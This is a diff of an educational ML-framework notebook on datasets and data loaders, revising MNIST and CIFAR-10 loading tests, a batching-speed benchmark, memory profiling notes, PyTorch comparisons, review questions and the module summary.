-            download_mnist(root=tmp / "data", mirrors=mirrors, progress=False)
-        assert (tmp / "data" / "mnist" / MNIST_FILES["test"][1]).read_bytes() == b"not mnist"
+        assert train.classes == [str(d) for d in range(10)] and train.name == "MNIST train"
+        np.testing.assert_array_equal(test.data[:, 0], read_idx(root / "mnist" / MNIST_FILES["test"][0]))
 
-        # CIFAR-10 from six local .bin files.
-        (tmp / "data" / "cifar10").mkdir()
-        for name, data in cifar.items():
-            (tmp / "data" / "cifar10" / name).write_bytes(data)
-        train, test = download_cifar10(root=tmp / "data", download=False)
+        train, test = download_cifar10(root=root, download=False)
         assert len(train) == 10 and len(test) == 2 and train.data.shape == (10, 3, 32, 32)
-        assert train.classes[0] == "airplane" and test.targets.dtype == np.int64
-        images, labels = read_cifar10_bin(tmp / "data" / "cifar10" / "data_batch_2.bin")
-        np.testing.assert_array_equal(train.data[2:4], images)
+        assert train.classes == CIFAR10_CLASSES and test.targets.dtype == np.int64
+        images, labels = read_cifar10_bin(root / "cifar10" / "data_batch_2.bin")
+        np.testing.assert_array_equal(train.data[2:4], images)           # the files joined in order
+        np.testing.assert_array_equal(train.targets[2:4], labels)
+
+        # Labels that do not match the images: a ValueError, not a dataset.
+        mnist[MNIST_FILES["test"][1]] = gzip.compress(idx_bytes(np.zeros(2, dtype=np.uint8)))
+        (root / "mnist" / MNIST_FILES["test"][1]).write_bytes(mnist[MNIST_FILES["test"][1]])
+        with registered_checksums(mnist), pytest.raises(ValueError):
+            download_mnist(root=root, download=False)
 
 
 if __name__ == "__main__":
@@ -2158,29 +1474,30 @@ if __name__ == "__main__":
 #
 # | step | cost | notes |
 # |---|---|---|
-# | permutation per epoch | O(N) time, 8N bytes | 60 000 indices: well under 1 ms |
+# | permutation per epoch | O(N) time, 8N bytes | once per epoch |
 # | fast `get_batch` | O(B·D) bytes copied, **1** NumPy call per array | the gather reads B scattered rows |
-# | slow path (per sample) | O(B·D) bytes + **B** Python calls | ~10 µs per sample here: a call, a tuple, small arrays, the stack |
-# | uint8 → float32 per batch | O(B·D), reads D, writes 4D bytes | paid once per batch, saves 3N·D bytes of memory |
-# | `Normalize` | O(B·D) | one broadcast subtract and divide |
+# | slow path (per sample) | O(B·D) bytes + **B** Python calls | a call, a tuple, small arrays, the stack |
+# | uint8 → float32 per batch | O(B·D), reads D, writes 4D bytes | saves 3N·D bytes of memory |
+# | `Normalize`, `RandomHorizontalFlip` | O(B·D) | one broadcast, one masked copy |
 # | `RandomCrop` | O(B·C·(H+2p)·(W+2p)) for the pad, O(B·C·h·w) for the gather | the window view itself is free |
-# | `RandomHorizontalFlip` | O(B·D) | one copy, one masked assignment |
-# | checksum | O(file size), constant memory | ~0.5 GB/s for sha256 on one core here |
-# | idx / CIFAR parse | O(file size) | gunzip dominates; `frombuffer` is free |
+# | checksum, idx / CIFAR parse | O(file size), constant memory for the hash | gunzip dominates; `frombuffer` is free |
 #
-# An epoch therefore costs O(N·D) bytes of copying whichever path you take. What differs is
-# the constant: the slow path pays the Python interpreter `N` times per epoch, the fast path
-# `N / B` times. The measurement below runs both on MNIST-sized data (random bytes with the
-# shapes of MNIST, so no download is needed). Measured on a shared 2-core machine (hence the
-# ranges over several runs), at `B = 64`: 7 000–11 000 batches/s for the fast path against
-# 1 300–1 500 for the per-sample path, **5–9× faster**; at `B = 256` the factor is 7–9, because
-# the fast path's fixed cost per batch is spread over more samples while the slow path pays per
-# sample whatever the batch size. One epoch of MNIST (938 batches of 64) takes about 0.1 s
-# through the fast path and about 0.7 s through the slow one. The per-sample dataset here is
-# as lean as one can be (it returns NumPy arrays); one that builds a Tensor per sample, or
-# decodes a file, is slower still, and that is where PyTorch's worker processes come in.
+# An epoch costs O(N·D) bytes of copying whichever path you take. What differs is the constant:
+# the slow path pays the Python interpreter `N` times per epoch, the fast path `N / B` times.
+# The measurement below runs both on MNIST-sized data (random bytes with MNIST's shapes, so no
+# download is needed) and prints the rates and the ratio on this machine. Expect the ratio to
+# grow with the batch size: the fast path's fixed cost per batch is spread over more samples,
+# while the slow path pays per sample whatever the batch size. The per-sample dataset here is
+# as lean as one can be; one that builds a Tensor per sample, or decodes a file, is slower
+# still, and that is where PyTorch's worker processes come in.
 
 # %% nbgrader={"grade": false, "grade_id": "analyze-batching-speed", "locked": false, "schema_version": 3, "solution": false}
+def _machine() -> str:
+    """The machine a measurement ran on: CPU count and the BLAS thread limit, if one is set."""
+    threads = os.environ.get("OMP_NUM_THREADS") or os.environ.get("OPENBLAS_NUM_THREADS") or "not set"
+    return f"{os.cpu_count()} CPUs, OMP/BLAS threads: {threads}"
+
+
 def analyze_batching_speed(n: int = 60_000, batch_sizes: tuple[int, ...] = (64, 256), seconds: float = 1.0) -> dict:
     """Batches per second through a DataLoader: one gather per batch vs one __getitem__ per sample."""
     rng = np.random.default_rng(0)
@@ -2199,6 +1516,7 @@ def analyze_batching_speed(n: int = 60_000, batch_sizes: tuple[int, ...] = (64, 
 
     slow = PerSample()
     results = {}
+    print(f"measured on {_machine()}:")
     for batch_size in batch_sizes:
         for name, dataset in (("fast", fast), ("slow", slow)):
             loader = DataLoader(dataset, batch_size=batch_size, shuffle=True, seed=0)
@@ -2210,7 +1528,7 @@ def analyze_batching_speed(n: int = 60_000, batch_sizes: tuple[int, ...] = (64, 
             results[(name, batch_size)] = rate
             print(f"batch {batch_size:>4}, {name} path: {rate:8.0f} batches/s = {rate * batch_size / 1e3:8.0f}k samples/s"
                   f"   (one MNIST epoch: {n / batch_size / rate:6.2f} s)")
-        print(f"  → the fast path is {results[('fast', batch_size)] / results[('slow', batch_size)]:.0f}× faster")
+        print(f"  → the fast path is {results[('fast', batch_size)] / results[('slow', batch_size)]:.1f}× faster")
     return results
 
 
@@ -2220,24 +1538,19 @@ if __name__ == "__main__":
 # %% [markdown]
 # ## Memory Profiling
 #
-# How much memory does a dataset take, and what does keeping it as bytes cost per batch? The
-# function below measures, on the real MNIST when `$TINYTORCH_DATA` has it and on random bytes
-# of the same shape otherwise:
+# Section 5 chose to keep images as uint8 and convert per batch. Is that free? The function
+# below measures, on the real MNIST when `$TINYTORCH_DATA` has it and on random bytes of the
+# same shape otherwise:
 #
-# - the bytes of the training images as stored (uint8) and as float32 (`nbytes` of the arrays),
+# - the bytes of the training images as stored (uint8) and as float32 (4× more, by arithmetic:
+#   47 MB against 188 MB for MNIST, 154 MB against 614 MB for CIFAR-10);
 # - the time to gather a batch of 256 from a uint8 store and convert it, against gathering it
-#   from a float32 store that was converted once at load time,
-# - the peak memory of loading MNIST from its files (with `tracemalloc`, which sees NumPy's
-#   allocations), when the files are there.
+#   from a float32 store converted once at load time;
+# - the peak memory of loading MNIST from its files (with `tracemalloc`), when they are there.
 #
-# Measured on a 2-core machine with the real MNIST: 47.0 MB as uint8 against 188.2 MB as
-# float32 (4×, as expected). A batch of 256 takes about 0.10 ms to gather and convert from
-# uint8, and about 0.16 ms to gather from float32: converting per batch is *faster*, because the
-# gather from uint8 reads 4× fewer bytes of scattered memory, and scattered reads dominate. The
-# peak while loading train and test is about 115 MB: the compressed files (11.6 MB) and gzip's
-# buffers come and go, the decompressed bytes (55 MB) stay, viewed, not copied, by the
-# datasets. So **keeping uint8 is the right call**: 4× less memory (614 → 154 MB for CIFAR-10)
-# and no cost per batch.
+# Compare the two batch times it prints. Gathering from uint8 reads 4× fewer bytes of scattered
+# memory, and scattered reads dominate a gather, so converting per batch usually costs nothing
+# measurable, while the memory saved is 4×.
 
 # %% nbgrader={"grade": false, "grade_id": "profile-dataset-memory", "locked": false, "schema_version": 3, "solution": false}
 def profile_dataset_memory(batch_size: int = 256, repeats: int = 200) -> dict[str, float]:
@@ -2287,47 +1600,33 @@ if __name__ == "__main__":
 #
 # **`torch.utils.data`** has the same two halves, with more machinery around each:
 #
-# - **Datasets.** Map-style (`__len__`, `__getitem__`, like ours) and **iterable-style**
-#   (`IterableDataset`: a stream, for data that does not fit on one disk or arrives over the
-#   network; shuffling then happens in a buffer). `TensorDataset`, `ConcatDataset`, `Subset`
-#   and `random_split` compose datasets.
-# - **Samplers.** The order is a separate object: `SequentialSampler`, `RandomSampler`,
-#   `WeightedRandomSampler` (oversample rare classes), `DistributedSampler` (each of 8 GPUs
-#   gets a disjoint eighth of the permutation, reshuffled per epoch with `set_epoch`). A
-#   `BatchSampler` groups indices; a `collate_fn` stacks samples (`default_collate` handles
-#   nested tuples and dicts, like our `stack_samples`). A dataset may define `__getitems__`
-#   to fetch a whole batch at once: the same fast path as our `get_batch`.
-# - **Workers.** `num_workers=8` starts 8 processes, each holding a copy of the dataset and
-#   producing whole batches; `prefetch_factor=2` batches per worker are prepared while the GPU
-#   computes. Processes, not threads, because per-sample Python code (JPEG decoding,
-#   augmentation) holds the GIL. Each worker gets its own seed (`base_seed + worker_id`);
-#   before PyTorch 1.9, NumPy's global generator was *copied* into every worker, so all
-#   workers produced the same "random" augmentations, a bug found in many published
-#   repositories. A per-loader generator, as here, avoids this by construction.
-# - **`pin_memory=True`** puts batches in page-locked host memory, from which the GPU can copy
-#   by DMA, asynchronously (`x.to("cuda", non_blocking=True)`), overlapping the copy with the
-#   previous step's compute.
+# - **Datasets**: map-style (like ours) and **iterable-style** (`IterableDataset`, a stream for
+#   data that does not fit on one disk; shuffling then happens in a buffer). A dataset may define
+#   `__getitems__` to fetch a whole batch at once: our `get_batch`.
+# - **Samplers** make the order a separate object: `RandomSampler`, `WeightedRandomSampler`
+#   (oversample rare classes), `DistributedSampler` (each GPU gets a disjoint share of the
+#   permutation, reshuffled with `set_epoch`); `collate_fn` stacks samples (`default_collate`,
+#   our `stack_samples`).
+# - **Workers**: `num_workers=8` starts 8 processes that prepare whole batches while the GPU
+#   computes (processes, because per-sample Python code holds the GIL), each seeded
+#   `base_seed + worker_id`. Before PyTorch 1.9 NumPy's global generator was *copied* into every
+#   worker, so all workers drew the same "random" augmentations; a per-loader generator, as
+#   here, avoids this by construction. `pin_memory=True` lets the GPU copy batches by DMA,
+#   overlapping the copy with compute.
 #
-# **torchvision.datasets.MNIST** downloads the same four files from the same mirror
-# (`ossci-datasets.s3.amazonaws.com`), checks their md5, and stores the images as a uint8
-# tensor, converting per sample in `ToTensor()`: the same decision as ours. Its
-# **CIFAR10** downloads the *Python* version and unpickles it, after an md5 check.
-# `torchvision.transforms.v2` transforms can take batched tensors, and on a GPU
-# augmentation of a whole batch is one kernel, as in our vectorised transforms.
-#
-# **At scale** the input pipeline is often the bottleneck: a GPU that trains a ResNet-50 at
-# 3 000 images/s needs 3 000 JPEGs decoded, cropped and flipped per second. Production systems
-# move decoding to the GPU (NVIDIA DALI), precompute compact formats (FFCV, TFRecord,
-# WebDataset tar shards read sequentially from object storage), and overlap everything with
-# compute (`tf.data`'s prefetch and parallel map). Hugging Face `datasets` stores columns in
-# Apache Arrow files that are memory-mapped: like our `frombuffer`, the data is used where it
-# lies, without a copy.
+# **torchvision.datasets.MNIST** downloads the same four files from the same mirror, checks
+# their md5 and keeps uint8, converting per sample: our decision. Its **CIFAR10** unpickles the
+# Python version after an md5 check. **At scale** the input pipeline is often the bottleneck: a
+# GPU training a ResNet-50 at 3 000 images/s needs 3 000 JPEGs decoded, cropped and flipped per
+# second, so production systems decode on the GPU (NVIDIA DALI), precompute compact formats
+# (FFCV, WebDataset shards), and memory-map columns (Hugging Face `datasets` on Apache Arrow:
+# like our `frombuffer`, data used where it lies).
 #
 # ## ML Systems Thinking
 #
-# 1. An epoch of MNIST through the slow path takes about 0.7 s on a 2-core machine, the fast
-#    path about 0.1 s, and a training step of the MLP of module 03 about 1 ms at batch 64.
-#    What fraction of training time does each path cost? How would worker processes change the answer, and what
+# 1. Take the epoch times `analyze_batching_speed` printed for the fast and the slow path, and
+#    time one training step of module 03's MLP at batch 64 on the same machine. What fraction of
+#    training time does each path cost? How would worker processes change the answer, and what
 #    would they cost in memory?
 # 2. Our loader draws its generator from `get_rng().spawn(1)` at construction. PyTorch draws
 #    a seed from the global generator at each `__iter__`. Give a program in which the two
@@ -2335,40 +1634,35 @@ if __name__ == "__main__":
 #    to keep reproducible when you add dropout to the model.
 # 3. CIFAR-10's training set is 154 MB as uint8. ImageNet's is about 140 GB as JPEG and about
 #    770 GB as float32 tensors at 224×224. Which of this module's decisions survive at that
-#    scale, and which must change (think: memory, the per-epoch permutation, checksums, where
-#    decoding and augmentation run)?
-# 4. `RandomCrop` builds `sliding_window_view(padded, (h, w))` of shape
-#    `(N, C, H', W', h, w)`. For CIFAR (N = 256, padding 4, crop 32) how many elements does
-#    that view describe, and how many bytes does it occupy? Why is the final fancy index a copy
-#    of only `N·C·h·w` elements?
-# 5. A mirror answers with status 200 and an HTML page saying "quota exceeded". Which of our
-#    checks catches it, and what would happen without that check? Which check catches a
-#    connection cut off after 90% of the file, and which one would miss it?
+#    scale, and which must change (memory, the per-epoch permutation, checksums, where decoding
+#    and augmentation run)?
+# 4. `RandomCrop` builds `sliding_window_view(padded, (h, w))` of shape `(N, C, H', W', h, w)`.
+#    For CIFAR (N = 256, padding 4, crop 32) how many elements does that view describe, and how
+#    many bytes does it occupy? Why is the final fancy index a copy of only `N·C·h·w` elements?
+# 5. A mirror answers with status 200 and an HTML page saying "quota exceeded". Which check in
+#    `_download.py` catches it, and what would your `read_idx` have said without it? Which check
+#    catches a connection cut off after 90 % of the file?
 # 6. Why is `os.replace` atomic only when the temp file is in the destination's folder? What
-#    could a reader of the folder observe if we wrote directly to the final name, and what if
-#    the process were killed between `write` and `fsync`?
+#    could a reader of the folder observe if the download wrote directly to the final name?
 #
 # ## Module Summary
 #
 # You built the path from files on disk to batches a model can eat:
 #
-# - **`Dataset` / `TensorDataset`**: the two-method protocol, plus `get_batch(indices)`, the
-#   fast path that gathers a whole batch with one fancy index per array (`stack_samples` is the
-#   slow path any dataset gets for free, and the two are tested equal).
+# - **`stack_samples`, `Dataset`, `TensorDataset`**: the two-method protocol, plus
+#   `get_batch(indices)`, the fast path that gathers a whole batch with one fancy index per
+#   array (the slow path any dataset gets for free, tested equal to it).
 # - **`DataLoader`**: batches, `drop_last`, a fresh permutation every epoch from a per-loader
-#   generator (`seed=`, or spawned from `manual_seed`'s), batches wrapped as float32 inputs and
-#   int64 labels. Measured: 5–9× more batches per second than a per-sample loop.
-# - **Transforms on whole batches**: `Normalize` (per channel), `RandomCrop` (per-sample
-#   offsets through a sliding-window view, no loop), `RandomHorizontalFlip`, `Compose`, all
-#   drawing from the loader's generator, so augmentation is reproducible.
-# - **Generated datasets** for tests and demos: `make_xor`, `make_spirals`, `make_blobs` and
-#   `load_digits` (8×8 digits rendered from stroke templates, vectorised, learnable).
+#   generator (`seed=`, or spawned after `manual_seed`), float32 inputs and int64 labels, and
+#   `state_dict()` to resume a run exactly. You measured how much the fast path gains.
+# - **Transforms on whole batches**: `Normalize`, `Compose`, `RandomCrop` (per-sample offsets
+#   through a sliding-window view, no loop), `RandomHorizontalFlip`, all drawing from the
+#   loader's generator, so augmentation is reproducible.
+# - **Generated datasets** for tests and demos: `make_xor`, `make_spirals`, `make_blobs`, and
+#   `load_digits` over the given stroke renderer.
 # - **Real data**: `read_idx` and `read_cifar10_bin` check every header; `ImageDataset` keeps
-#   uint8 in memory (4× less) and converts per batch (measured: no slower); `download_mnist` and
-#   `download_cifar10` find their folder (argument → `$TINYTORCH_DATA` → `~/.cache/tinytorch`),
-#   verify every file against one checksum registry before parsing, download from several
-#   mirrors with a progress bar, write atomically, and fail with a message that says what is
-#   missing, where they looked and what each mirror answered. No pickle anywhere.
+#   uint8 in memory and converts per batch; `download_mnist` and `download_cifar10` parse the
+#   files that the given download code found, verified and wrote atomically. No pickle anywhere.
 #
 # **Next:** milestone 03 trains an MLP on MNIST with these loaders (the 1986 backpropagation
 # result, on 60 000 real digits), and module 09 (spatial) adds convolutions, which take the
